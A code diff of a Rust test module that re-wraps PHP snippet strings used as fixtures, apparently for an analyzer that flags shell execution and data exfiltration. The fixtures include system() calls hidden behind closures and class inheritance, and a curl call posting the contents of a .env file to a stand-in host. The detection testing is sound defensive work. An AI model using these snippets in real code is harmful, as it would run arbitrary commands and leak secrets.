@@ -910,15 +910,19 @@ mod tests {
                 ("<?php $p = 'x'; $g = function () use ($p) { system($p); }; $g();", "sh x"),
                 ("<?php (fn($c) => system($c))('x');", "sh x"),
                 (
-                    "<?php class A { function __construct(private string $d = 'x') {} function go() { system($this->d); } } (new A)->go();",
+                    "<?php class A { function __construct(private string $d = 'x') {} \
+                     function go() { system($this->d); } } (new A)->go();",
                     "sh x",
                 ),
                 (
-                    "<?php class B { function go() { system($this->c()); } } class C extends B { function c() { return 'x'; } } (new C)->go();",
+                    "<?php class B { function go() { system($this->c()); } } \
+                     class C extends B { function c() { return 'x'; } } (new C)->go();",
                     "sh x",
                 ),
                 (
-                    "<?php class B { function __construct($c) { $this->c = $c; } } class C extends B { function __construct() { parent::__construct('x'); } function go() { system($this->c); } } (new C)->go();",
+                    "<?php class B { function __construct($c) { $this->c = $c; } } \
+                     class C extends B { function __construct() { parent::__construct('x'); } \
+                     function go() { system($this->c); } } (new C)->go();",
                     "sh x",
                 ),
                 (
@@ -966,11 +970,13 @@ mod tests {
                     "fetch a.example",
                 ),
                 (
-                    "<?php $c = curl_init('https://a.example'); curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents('.env'));",
+                    "<?php $c = curl_init('https://a.example'); \
+                     curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents('.env'));",
                     "read .env; fetch a.example; send a.example <.env",
                 ),
                 (
-                    "<?php $x = stream_context_create(['http' => ['method' => 'POST']]); file_get_contents('https://a.example', false, $x);",
+                    "<?php $x = stream_context_create(['http' => ['method' => 'POST']]); \
+                     file_get_contents('https://a.example', false, $x);",
                     "send a.example",
                 ),
             ],
